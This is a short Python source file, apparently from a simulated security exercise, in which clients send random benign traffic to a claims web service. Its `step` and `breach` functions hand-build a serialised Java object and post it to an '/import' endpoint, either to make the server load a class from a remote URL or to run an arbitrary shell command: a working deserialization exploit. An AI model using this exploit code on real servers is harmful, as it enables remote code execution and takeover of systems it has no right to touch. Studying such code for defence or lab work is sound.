"""Clients of claims."""

import struct

from outside import get, post


def visit(host, rng):
    what = rng.choices(["look", "list", "claim", "report", "rate"], [30, 35, 20, 8, 8])[0]
    if what == "look":
        get(host, 8080, "/")
    elif what == "list":
        get(host, 8080, "/claims")
    elif what == "claim":
        get(host, 8080, f"/claim?{rng.randint(1, 900)}")
    elif what == "report":
        get(host, 8080, "/report")
    else:
        get(host, 8080, "/rate?" + rng.choice(["usd", "gbp", "chf"]))


def step(kind, argument):
    """A serialised Step, as ObjectOutputStream would write it."""
    def text(value):
        return struct.pack(">H", len(value.encode())) + value.encode()

    string = text("Ljava/lang/String;")
    fields = b"L" + text("argument") + b"\x74" + string + b"L" + text("kind") + b"\x71" + struct.pack(">I", 0x7E0001)
    described = b"\x72" + text("Step") + struct.pack(">q", 1) + b"\x02" + struct.pack(">H", 2) + fields + b"\x78\x70"
    return b"\xac\xed\x00\x05\x73" + described + b"\x74" + text(argument) + b"\x74" + text(kind)


def breach(host, command):
    """Imports a step: `load URL CLASS ARGUMENT` loads a class into the server, all else goes to a shell."""
    if command.startswith("load "):
        return post(host, 8080, "/import", step("class", command.removeprefix("load ")))
    return post(host, 8080, "/import", step("shell", command))
